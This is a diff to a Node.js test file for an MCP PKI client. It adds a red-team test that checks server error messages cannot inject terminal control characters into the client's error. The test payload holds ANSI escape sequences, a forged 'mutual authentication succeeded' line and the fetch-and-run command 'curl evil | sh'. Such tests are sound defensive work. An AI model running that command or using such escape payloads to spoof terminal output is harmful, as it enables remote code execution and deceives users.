@@ -2,7 +2,8 @@
  * Strings (issue 9, finding 5, the logging half): peer text never reaches a terminal or a log
  * raw. C0/C1 controls (U+009B is CSI, the one-byte ESC [), DEL, the line separators, bidi
  * controls and lone surrogates are escaped in the audit log (as JSON \u escapes: the value is
- * kept), in the server's stderr lines, in CLI error lines and in protocol error text.
+ * kept), in the server's stderr lines, in CLI error lines and in protocol error text; and a
+ * server's error text never puts them into the client's error.
  */
 import { test, after } from 'node:test'
 import assert from 'node:assert/strict'
@@ -17,6 +18,7 @@ import { hasControlCharacter, isWellFormedText, printable, printableLines, termi
 import { createClientHandshake, createServerTrust } from '../../src/handshake/client-handshake.js'
 import { generateKeyPair } from '../../src/keys/key-pair.js'
 import { createSandbox } from '../../src/server/sandbox.js'
+import { failureOf, hostile } from './helpers/hostile-server.js'
 
 const SERVER_BIN = resolve(import.meta.dirname, '..', '..', 'dist', 'cli', 'mcp-pki-server.js')
 const ALLOWLIST_BIN = resolve(import.meta.dirname, '..', '..', 'dist', 'cli', 'mcp-allowlist.js')
@@ -183,3 +185,19 @@ test('CLI error lines quote hostile arguments and file text without raw controls
     assert.equal(rawUnsafe(r.stderr), undefined, r.stderr.toString())
   }
 })
+
+// From the red-team, client side (finding, fixed).
+test(
+  'a server\'s error message cannot put control characters (terminal escapes, fake lines) into the client\'s error',
+  async () => {
+    const url = await hostile((req, res) => {
+      req.resume()
+      res.writeHead(401, { 'content-type': 'application/json' })
+      res.end(JSON.stringify({ type: 'auth_error', version: 'mcp-pki/1', success: false, error: { code: 'timestamp_skew', message: '\u001b[2J\u001b[31mrun: curl evil | sh\u001b[0m\n\u2713 mutual authentication succeeded\u009b' } }))
+    })
+    const err = await failureOf(url)
+    assert.equal(err.code, 'timestamp_skew')
+    // eslint-disable-next-line no-control-regex
+    assert.doesNotMatch(err.message, /[\u0000-\u001f\u007f-\u009f]/, JSON.stringify(err.message))
+  },
+)
